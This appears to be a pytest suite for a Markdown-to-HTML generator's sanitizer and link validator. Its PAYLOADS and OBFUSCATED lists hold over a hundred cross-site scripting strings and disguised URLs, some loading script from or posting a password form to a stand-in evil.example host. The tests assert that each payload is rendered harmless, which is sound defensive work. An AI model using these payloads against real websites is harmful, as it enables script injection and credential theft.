from __future__ import annotations

import hashlib
import re
import unicodedata
import warnings
from typing import TYPE_CHECKING

import html5lib
import pytest
from counting import calls
from findings import codes, places
from hypothesis import given
from hypothesis import strategies as st

from generator import addresses, markdown
from generator.markdown import cleaned, sections, text_hash

if TYPE_CHECKING:
    from collections.abc import Iterator
    from xml.etree.ElementTree import Element

HEAD = "## Heading\n\n"
ATTRIBUTES = {
    "a": {"href", "class", "rel"},
    "div": {"class", "tabindex"},
    "ol": {"start"},
    "td": {"class"},
    "th": {"class"},
}
SCHEME = re.compile(r"https?://|mailto:|#|case:|city:|country:|topic:|page:|cite:")
ADDRESS = re.compile(r"https?://[^/]|mailto:[\w.+-]+@|#[a-z]|(case|city):[a-z]{2}/[a-z]|country:[a-z]{2}$|(topic|page|cite):[a-z]")


def html(body: str) -> str:
    """The HTML of a body, in most tests that of one section."""
    return "\n".join(section.html for section in sections("x.md", HEAD + body)[0])


def written(body: str) -> str:
    """The HTML before the second wall."""
    emitter = markdown._Emitter("x.md", body, 1)
    for event, span in markdown.pyromark.events_with_range(body, options=markdown.OPTIONS):
        emitter.take(event, span["start"], span["end"])
    emitter._flush()
    return "\n".join("".join(each.parts).strip() for each in emitter.open[1:])


def elements(text: str) -> Iterator[Element]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        return html5lib.parseFragment(text, namespaceHTMLElements=False).iter()


def assert_harmless(text: str, address: re.Pattern[str] = ADDRESS) -> None:
    """A browser finds nothing in it but what the emitter writes."""
    for element in elements(text):
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in markdown.TAGS, text
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set()), text
        if "href" in element.attrib:
            assert address.match(element.attrib["href"]), text


# What has been used against programs that turn Markdown into HTML: tags, attributes, broken and nested markup, addresses.
PAYLOADS = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>\n\nalert(1)\n\n</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</p><script>alert(1)</script><p>",
    "</div></article><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    '<img """><script>alert(1)</script>">',
    "<img src=x:x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/onload=alert(1)//",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style=position:fixed;inset:0>x</div>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<plaintext>",
    "<!-- --><script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!DOCTYPE html><html><head>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=javascript:alert(1)>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<a href='https://x.example' onmouseover=alert(1)>x</a>",
    "<a id=__search name=getElementById>x</a>",
    "<custom-element onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    '[x](https://x.example "onmouseover=alert(1)")',
    "[x](https://x.example'onmouseover='alert(1))",
    '[x](https://x.example/"onmouseover="alert(1))',
    "[x](<https://x.example/><script>alert(1)</script>)",
    '[<script>alert(1)</script>](https://x.example "</a><script>")',
    "[x](https://user:secret@x.example)",
    "[x](mailto:a@x.example?body=<script>alert(1)</script>)",
    '[x](case:de/example" onclick=alert(1))',
    "[x](case:de/example/../../../etc)",
    "[x](page:about#<script>)",
    '[x](#"onclick=alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://x.example/"onclick=alert(1)>',
    "<a@x.example>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://x.example/x.png)',
    "![x](https://x.example/x.png 'onerror=alert(1)')",
    "[![x](x)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[@s1](javascript:alert(1))",
    '[@s1" onclick=alert(1)]',
    "`<script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n| - | - |\n| <img src=x onerror=alert(1)> | `|<svg/onload=alert(1)>` |",
    '| a |\n| :-"onclick=alert(1) |\n| b |',
    "> <script>alert(1)</script>",
    "- <script>\n- alert(1)\n- </script>",
    "## <script>alert(1)</script>",
    "### <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "\u0338 onclick=alert(1) style=position:fixed x",
    "*x*\u0338 onclick=alert(1) x",
    "&#824; onclick=alert(1) x",
    "`\u0338 onclick=alert(1) x`",
    "- \u0338 onclick=alert(1) x",
    "{{7*7}} {% include 'x' %} ${7*7} <%= 7*7 %>",
    '--8<-- ".git/config"',
    "text{: onclick=alert(1) }",
    "<div markdown=1>*x*</div>",
    "\u2028<script>\u2029alert(1)</script>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
    "＜script＞alert(1)＜/script＞",
    "<scri\u0000pt>alert(1)</scri\u0000pt>",
]


class TestHostileText:
    def test_there_are_enough(self) -> None:
        assert len(set(PAYLOADS)) >= 100

    @pytest.mark.parametrize("payload", PAYLOADS)
    @pytest.mark.parametrize("around", ["{}", "x {} y", "- {}", "> {}", "**{}**", "[{}](https://x.example)", "| a |\n| - |\n| {} |"])
    def test_becomes_harmless(self, payload: str, around: str) -> None:
        text = html(around.format(payload) if "{" not in payload else around.replace("{}", payload))
        assert_harmless(text)
        assert_harmless(unicodedata.normalize("NFC", text))

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_is_harmless_before_the_second_wall_which_changes_nothing(self, payload: str) -> None:
        text = written(HEAD + payload)
        assert_harmless(text)
        if "\0" not in payload:
            assert cleaned(text) == text

    @pytest.mark.parametrize(
        "payload", [each for each in PAYLOADS if re.match(r"<(?!\w+:)[a-zA-Z!?].*>", each, re.DOTALL) and "\0" not in each]
    )
    def test_html_is_told(self, payload: str) -> None:
        assert {"raw-html", "unsafe-link"} & set(codes(sections("x.md", HEAD + payload)[1]))

    def test_the_second_wall_stands_by_itself(self) -> None:
        for payload in PAYLOADS:
            assert_harmless(cleaned(payload), SCHEME)
            assert_harmless(cleaned(f'<a href="{payload}" onclick="{payload}">{payload}</a>'), SCHEME)

    @pytest.mark.parametrize(
        "address", ["//x.example", "/x", "x", "javascript:alert(1)", "data:x", "ftp://x", " javascript:alert(1)", "tel:1"]
    )
    def test_the_second_wall_knows_addresses(self, address: str) -> None:
        assert cleaned(f'<a href="{address}">x</a>') == "<a>x</a>"


class TestHtmlThatIsTold:
    @pytest.mark.parametrize(
        ("body", "expected"),
        [
            ("a <b>x</b> c", ["3:3"]),
            ("a <br> <br>", ["3:3", "3:8"]),
            ("a </b> c", ["3:3"]),
            ("<div>\nhello\n</div>\n\nx", ["3:1"]),
            ("<!-- a\n\nb -->", ["3:1"]),
            ("ä 東京 😀 <b>", ["3:8"]),
            ("क्षेत्र <b>", ["3:9"]),
            ("x\n\n> - y <i>", ["5:7"]),
        ],
    )
    def test_once_and_where_it_stands(self, body: str, expected: list[str]) -> None:
        assert places(sections("x.md", HEAD + body)[1]) == [f"x.md:{place} raw-html" for place in expected]

    def test_it_is_shown_as_text(self) -> None:
        assert html("a <b>x</b>") == "<p>a &lt;b&gt;x&lt;/b&gt;</p>"


OBFUSCATED = [
    *("javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)"),
    *(
        " javascript:alert(1)",
        "javascript\u00a0:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "javascript&colon;alert(1)",
        "%6Aavascript:alert(1)",
    ),
    *("javascript://x.example/%0aalert(1)", "vbscript:x", "livescript:x", "data:text/html,x", "data:text/html;base64,PHN2Zz4=", "DATA:x"),
    *(
        "//evil.example",
        "\\\\evil.example",
        "/\\evil.example",
        "///evil.example",
        "http:/evil.example",
        "http:evil.example",
        "https:\\evil.example",
    ),
    *(
        "https:///evil.example",
        "https://\\evil.example",
        "https://evil.example\\@good.example",
        "https://user@evil.example",
        "https://@evil.example",
        "https://:@evil.example",
    ),
    *(
        "https://good.example@evil.example/",
        "https://user:secret@evil.example",
        "https://:80/",
        "https://",
        "https://?x",
        "https://#x",
        "https:// x",
    ),
    *(
        "https://x.example/ y",
        "https://x.example/<script>",
        'https://x.example/"onclick',
        "https://x.example/`x`",
        "https://x.example/{{7*7}}",
    ),
    *(
        "https://x.example/\u2028",
        "https://x.example\n/",
        "https://x.exa\tmple/",
        "https://x.example/a|b",
        "https://x.example/^",
        "https://x\u0000.example",
    ),
    *(
        "file:///etc/passwd",
        "ftp://x.example",
        "blob:https://x.example/1",
        "about:blank",
        "view-source:https://x.example",
        "tel:+49",
        "HTTPS://x.example",
    ),
    *(
        "../x",
        "/x",
        "x.html",
        "#x",
        "?x",
        "",
        ".",
        "https://[::1",
        "https://x.example:99999/",
        "https://999.999.999.999/",
        "https://a b.example/",
    ),
    *("https://x.example/" + "a" * addresses.LONGEST, "https://%00.example/", "https://ex%2Fample/", "https://x^y.example/"),
    *("https://%6Fffice%40x.example/", "https://xn--/"),
]


class TestAddresses:
    def test_there_are_enough(self) -> None:
        assert len(set(OBFUSCATED)) >= 40

    @pytest.mark.parametrize("address", OBFUSCATED)
    def test_an_obfuscated_address_is_refused(self, address: str) -> None:
        assert addresses.safe(address) is None

    @pytest.mark.parametrize(
        ("written", "read"),
        [
            ("https://www.herrenberg.de", "https://www.herrenberg.de/"),
            ("http://x.example/a?b=c&d#e", "http://x.example/a?b=c&d#e"),
            ("https://x.example:8443/", "https://x.example:8443/"),
            ("https://x.example:443/", "https://x.example/"),
            ("https://X.Example/A", "https://x.example/A"),
            ("https://münchen.example/straße", "https://xn--mnchen-3ya.example/stra%C3%9Fe"),
            ("https://оslo.example/", "https://xn--slo-red.example/"),  # a Cyrillic o shows
            ("https://x.example/a/../b", "https://x.example/b"),
            ("https://x.example/it's_(x)", "https://x.example/it's_(x)"),
            ("https://x.example/@me", "https://x.example/@me"),
            ("https://127.1/", "https://127.0.0.1/"),
        ],
    )
    def test_an_address_is_what_a_browser_makes_of_it(self, written: str, read: str) -> None:
        assert addresses.safe(written) == read
        assert addresses.safe(read) == read

    @given(st.text(max_size=40) | st.text("htps:/\\@.#?%x1 \t&;", max_size=30).map("https://".__add__))
    def test_whatever_passes_is_harmless(self, text: str) -> None:
        address = addresses.safe(text)
        if address is not None:
            assert re.fullmatch(r"https?://[a-z0-9._~!$&'()*+,;=\[\]:%-]+(?:[/?#][\x21-\x7e]*)?", address)
            assert not re.search(r"[<>\"\s]|://[^/]*@", address)

    @pytest.mark.parametrize(
        "address",
        ["mailto:office@town.example", "#results", "case:de/example", "city:de/town", "country:de", "topic:mobility", "page:about"],
    )
    def test_of_ours_and_of_offices(self, address: str) -> None:
        assert html(f"[x]({address})") == f'<p><a href="{address}">x</a></p>'

    @pytest.mark.parametrize(
        "address",
        [
            "case:example",
            "case:DE/example",
            "case:de/example/x",
            "country:de/x",
            "city:de",
            "page:a/b",
            "topic:",
            "mailto:x",
            "text.en.md",
            "../de",
            "CASE:de/x",
        ],
    )
    def test_that_are_nearly_ours_are_refused(self, address: str) -> None:
        (section,), findings = sections("x.md", f"{HEAD}a [x]({address})")
        assert places(findings) == ["x.md:3:3 unsafe-link"]
        assert section.html == "<p>a <a>x</a></p>"

    def test_others_say_that_they_are_not_ours(self) -> None:
        assert html("[x](https://x.example)") == '<p><a href="https://x.example/" rel="noopener nofollow ugc">x</a></p>'
        assert html("<https://x.example>") == '<p><a href="https://x.example/" rel="noopener nofollow ugc">https://x.example</a></p>'


class TestMarkup:
    @pytest.mark.parametrize(
        ("body", "expected"),
        [
            ("a\nb", "<p>a b</p>"),
            ("a\\\nb", "<p>a<br>b</p>"),
            ("a  \nb", "<p>a<br>b</p>"),
            ("*a* **b** ~~c~~ `d < e`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d &lt; e</code></p>"),
            ("> a\n\nb", "<blockquote><p>a</p>\n</blockquote>\n<p>b</p>"),
            ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
            ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
            ("- a\n  - b\n    1. c", "<ul><li>a<ul><li>b<ol><li>c</li></ol>\n</li></ul>\n</li></ul>"),
            ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
            ("1918. a", '<ol start="1918"><li>a</li></ol>'),
            ("- a\n\n  b", "<ul><li><p>a</p>\n<p>b</p>\n</li></ul>"),
            ("```\na <b>\n\tc\n```", "<pre><code>a &lt;b&gt;\n\tc\n</code></pre>"),
            ("    a\n\n    b", "<pre><code>a\n\nb</code></pre>"),
            ("```\n\na\n```", "<pre><code>\na\n</code></pre>"),
            ("a & b &amp; c &copy; \\* \\# d", "<p>a &amp; b &amp; c © * # d</p>"),
            ("a\u00a0b", "<p>a&nbsp;b</p>"),
            ("33,000 – “x” … it's", "<p>33,000 – “x” … it's</p>"),
            ("e\u0301 n\u0303", "<p>é ñ</p>"),
            (
                "[*a* `b`](https://x.example)",
                '<p><a href="https://x.example/" rel="noopener nofollow ugc"><em>a</em> <code>b</code></a></p>',
            ),
            ("- [ ] a", "<ul><li>[ ] a</li></ul>"),
            ("a[^1]", "<p>a[^1]</p>"),
            (":smile: $x$ ==y== ^z^ www.x.example", "<p>:smile: $x$ ==y== ^z^ www.x.example</p>"),
        ],
    )
    def test_is_written_so(self, body: str, expected: str) -> None:
        (section,), findings = sections("x.md", HEAD + body)
        assert findings == []
        assert section.html == expected

    def test_a_table(self) -> None:
        text = html("| a | b | c | d |\n| - | :- | :-: | -: |\n| 1 | **2** | [@s1] | 4 |\n| 5 |")
        assert text == (
            '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th class="left">b</th><th class="center">c</th><th class="right">d</th>'
            '</tr></thead><tbody><tr><td>1</td><td class="left"><strong>2</strong></td><td class="center"><a href="cite:s1" class="cite">s1</a></td>'
            '<td class="right">4</td></tr><tr><td>5</td><td class="left"></td><td class="center"></td><td class="right"></td></tr></tbody></table></div>'
        )

    def test_deep_nesting_is_told_once_and_goes_no_deeper(self) -> None:
        (section,), findings = sections("x.md", HEAD + ">" * 10_000 + " x")
        assert codes(findings) == ["too-nested"]
        assert section.html.count("<blockquote>") == markdown.DEEPEST
        assert_harmless(section.html)

    @pytest.mark.parametrize("level", ["# x", "### x", "###### x", "> ## x", "- ## x", "x\n===", "- x\n  ---"])
    def test_a_heading_of_another_level_is_told(self, level: str) -> None:
        assert codes(sections("x.md", HEAD + level)[1]) == ["heading-level"]

    @pytest.mark.parametrize("text", ["![x](x.png)", "a ![x](https://x.example/x.png) b", "[![x](y)](https://x.example)"])
    def test_a_picture_is_told(self, text: str) -> None:
        assert codes(sections("x.md", HEAD + text)[1]) == ["picture-in-text"]

    @pytest.mark.parametrize("text", ["[1]: https://x.example\n\n[a][1]", "[@s1]\n\n[b]: /x 'y'", "[^1]: words"])
    def test_a_definition_is_told(self, text: str) -> None:
        assert "reference-definition" in codes(sections("x.md", HEAD + text)[1])

    @pytest.mark.parametrize(
        ("text", "place"), [("a\n\n## b", "1:1"), ("\n\n- a\n\n## b", "3:1"), ("\n**a**\n", "2:1"), ("\n```\nx\n```\n", "2:1")]
    )
    def test_text_above_the_first_heading_is_told(self, text: str, place: str) -> None:
        assert places(sections("x.md", text)[1]) == [f"x.md:{place} text-before-heading"]

    @pytest.mark.parametrize(
        "spelt", ["&#8238;", "&#x202e;", "&shy;", "&#8203;", "&ZeroWidthSpace;", "&#x80;", "&#8232;", "&#65279;", "&zwj;"]
    )
    def test_a_character_that_may_not_stand_in_a_file_may_not_be_spelt(self, spelt: str) -> None:
        ((place, code),) = [each.split(" ") for each in places(sections("x.md", f"{HEAD}äb {spelt} c")[1])]
        assert place == "x.md:3:4"
        assert code in {"control-character", "invisible-character"}


class TestCitations:
    def cited(self, body: str) -> list[tuple[str, int, int]]:
        (section,), findings = sections("x.md", HEAD + body)
        assert findings == []
        return [(each.target, each.location.line, each.location.column) for each in section.pointers if each.kind == "cite"]

    @pytest.mark.parametrize(
        ("body", "expected"),
        [
            ("a [@s1]", [("s1", 3, 4)]),
            ("a [@s1][@s2]", [("s1", 3, 4), ("s2", 3, 9)]),
            ("a [@s1; @s2, @s3]", [("s1", 3, 4), ("s2", 3, 9), ("s3", 3, 14)]),
            ("**a [@s1]**", [("s1", 3, 6)]),
            ("ä 東京 😀 [@s1] b\nक्षेत्र [@s2]", [("s1", 3, 9), ("s2", 4, 10)]),
            ("a &amp; b [@s1]", [("s1", 3, 12)]),
            ("a [@s1](x)", []),
            ("\\[@s1]", []),
            ("`[@s1]`", []),
            ("    [@s1]", []),
            ("[@S1] [@] [s1] @s1 [@s1 x]", []),
        ],
    )
    def test_stand_where_they_stand(self, body: str, expected: list[tuple[str, int, int]]) -> None:
        (section,), _ = sections("x.md", HEAD + body)
        assert [(each.target, each.location.line, each.location.column) for each in section.pointers] == expected

    def test_become_links_to_their_sources(self) -> None:
        assert html("a [@s1; @s2] b.") == '<p>a <a href="cite:s1" class="cite">s1</a><a href="cite:s2" class="cite">s2</a> b.</p>'

    def test_are_no_links_inside_links(self) -> None:
        text = html("[a [@s1] b](https://x.example)")
        assert text.count("<a ") == 1
        assert "[@s1]" in text


class TestSections:
    def test_headings_without_markup(self) -> None:
        found, findings = sections(
            "x.md", "## **What** `was` [done](https://x.example) &amp;  e\u0301\n\nx\n\n## Two ##\n\nThree\n---\n\ny\n"
        )
        assert findings == []
        assert [each.heading for each in found] == ["What was done & é", "Two", "Three"]
        assert [each.html for each in found] == ["<p>x</p>", "", "<p>y</p>"]
        assert [(each.location.line, each.location.column, each.location.end_line) for each in found] == [(1, 1, 1), (5, 1, 5), (7, 1, 8)]

    def test_a_heading_with_html_stays_a_heading(self) -> None:
        (section,), findings = sections("x.md", "## a <b>c</b>\n\nx\n")
        assert (section.heading, section.html, codes(findings)) == ("a <b>c</b>", "<p>x</p>", ["raw-html"])

    def test_an_unsafe_link_in_a_heading_is_told(self) -> None:
        assert codes(sections("x.md", "## a [b](javascript:x)\n\nx\n")[1]) == ["unsafe-link"]

    def test_lines_count_from_the_first_line_of_the_body(self) -> None:
        (section,), findings = sections("x.md", "\n## a\n\n<b>\n", 10)
        assert section.location.line == 11
        assert places(findings) == ["x.md:13:1 raw-html"]

    def test_words_are_counted(self) -> None:
        assert sections("x.md", HEAD + "one **two** three, [@s1]\n\n- four")[0][0].words == 5

    def test_a_body_without_headings_has_none(self) -> None:
        assert sections("x.md", "") == ((), [])

    def test_pointers_to_pages(self) -> None:
        (section,), _ = sections("x.md", f"{HEAD}ä [x](case:de/example) [y](topic:mobility)")
        assert [(each.kind, each.target, each.location.column, each.location.end_column) for each in section.pointers] == [
            ("case", "de/example", 3, 23),
            ("topic", "mobility", 24, 43),
        ]


class TestHashes:
    def test_the_first_twelve_digits_of_sha_256(self) -> None:
        assert text_hash("a b") == "h:" + hashlib.sha256(b"a b").hexdigest()[:12]

    @pytest.mark.parametrize(
        ("one", "other"),
        [
            ("a b", "a\n  b\n"),
            ("a b", "\ta \r\n b"),
            ("é ñ", "e\u0301 n\u0303"),
            ("see [x](https://x.example/a)", "see [x](https://x.example/b)"),
            ("see [x](case:de/a)", "see [x](case:de/b)"),
        ],
    )
    def test_are_the_same_for_the_same_words(self, one: str, other: str) -> None:
        assert text_hash(one) == text_hash(other)

    @pytest.mark.parametrize(
        ("one", "other"),
        [("a b", "ab"), ("a b", "a c"), ("A", "a"), ("[x](y)", "x"), ("[x](y)", "[z](y)"), ("a [@s1]", "a [@s2]"), ("é", "e")],
    )
    def test_differ_for_other_words(self, one: str, other: str) -> None:
        assert text_hash(one) != text_hash(other)

    @given(st.text(max_size=60), st.sampled_from([" ", "\n", "\t", "\n\n  ", "\u00a0"]))
    def test_do_not_depend_on_white_space_or_composition(self, text: str, space: str) -> None:
        assert text_hash(text) == text_hash(unicodedata.normalize("NFD", text))
        assert text_hash(text) == text_hash(space + space.join(text.split()) + space)

    def test_of_a_section_are_those_of_its_words_without_its_heading(self) -> None:
        (one, two), _ = sections("x.md", "## a\n\nx [y](case:de/z)\n\n## b\n\nx\n[y](case:de/other)\n")
        assert one.hash == two.hash == text_hash("x [y](z)")


PIECES = st.lists(
    st.sampled_from(
        [
            "*",
            "**",
            "_",
            "`",
            "```\n",
            "[",
            "](",
            ")",
            "]",
            "![",
            "<",
            ">",
            "<b>",
            "</b>",
            "<!--",
            "-->",
            "\n",
            "\n\n",
            "    ",
            "\t",
            "- ",
            "1. ",
            "> ",
            "#",
            "## ",
            "|",
            "| - |\n",
            "~~",
            "\\",
            "&amp;",
            "&#8238;",
            "[@s1]",
            "[x]: y\n",
            "https://x.example",
            "case:de/x",
            "javascript:",
            "é",
            "é",
            "̸",
            "😀",
            "क्\u200d",
            "\xa0",
            "---\n",
        ]
    ),
    max_size=30,
).map("".join)


@given(st.text(st.characters(codec="utf-8"), max_size=100) | PIECES)
def test_no_text_stops_the_program_or_passes_the_walls(text: str) -> None:
    found, findings = sections("x.md", f"{HEAD}{text}")
    for section in found:
        assert_harmless(section.html)
        assert_harmless(unicodedata.normalize("NFC", section.html))
        assert cleaned(section.html) == section.html
    lines = f"{HEAD}{text}".count("\n") + 1
    assert all(1 <= each.location.line <= lines and each.location.column >= 1 for each in findings)


@given(PIECES)
def test_the_second_wall_has_nothing_to_do(text: str) -> None:
    assert cleaned(written(HEAD + text)) == written(HEAD + text)


# Texts that have made parsers of Markdown take time by the square of their length, or by worse.
SLOW = {
    "open brackets": "[",
    "links without end": "](",
    "pictures without end": "![",
    "links": "[a](b) ",
    "quotes in quotes": ">",
    "emphasis": "*a ",
    "strong in emphasis": "**a *b ",
    "under": "_a",
    "code": "`a``",
    "html": "<b>",
    "comments": "<!--",
    "declarations": "<!A",
    "instructions": "<?",
    "entities": "&amp;",
    "citations": "[@s1]",
    "half citations": "[@s1;",
    "cells": "|a",
    "definitions": "[a]: b\n",
    "lists": "- a\n",
    "lists in lists": "- ",
    "escapes": "\\[",
    "marks": "a\u0301",
}


def steps(body: str) -> int:
    """How many functions are called while a body is read."""
    return calls(lambda: sections("x.md", body))


@pytest.mark.parametrize("piece", SLOW.values(), ids=SLOW.keys())
def test_twice_the_text_is_twice_the_work(piece: str) -> None:
    whole, half = (HEAD + piece * (size // len(piece.encode())) for size in (32_000, 16_000))
    assert steps(whole) <= 2.2 * steps(half)


def test_patterns_look_no_further_than_an_address_is_long() -> None:
    assert text_hash("[x](" + "y" * addresses.LONGEST + ")") == text_hash("[x](z)")
    assert text_hash("[x](" + "y" * (addresses.LONGEST + 1) + ")") != text_hash("[x](z)")


class TestPlain:
    """What a reader sees of a body, at the place where it stands."""

    @pytest.mark.parametrize(
        ("body", "shown"),
        [
            ('Since **2019** [here](https://town.example/7 "8")', "Since   2019    here                             "),
            ("33,000 [@s1][@s2] and `v3`", "33,000            and `v3`"),
            ("1. one\n2. two\n", "   one\n   two\n"),
            ("26\\. May &#8239; 5", "26 . May         5"),
            ("| 5 % | 6 |\n|---|---|\n| 7 [@s1] | 8 |", "  5 %   6  \n         \n  7         8  "),
            ("## Straße 5\n\nनमस्ते **5**", "   Straße 5\n\nनमस्ते   5  "),
            ("<b>5</b> a", "   5     a"),
            ("", ""),
        ],
    )
    def test_marks_make_room(self, body: str, shown: str) -> None:
        assert markdown.plain(body) == shown

    @given(st.text(st.sampled_from("ab5 \n*_[]()@s1`#|-<>&;\\।ि\u00e9") | st.characters(codec="utf-8"), max_size=60))
    def test_every_word_stays_in_its_place(self, body: str) -> None:
        plain = markdown.plain(body)
        assert len(plain) == len(body)
        assert all(new in (old, " ") for old, new in zip(body, plain, strict=True))
        assert plain.count("\n") == body.count("\n")

    def test_a_section_knows_where_it_ends(self) -> None:
        for end in ("", "\n"):
            found, _ = sections("text.en.md", f"## One\n\na\n\n## Two\nb{end}", first_line=10)
            assert [(each.location.line, each.end_line) for each in found] == [(10, 14), (14, 16)]
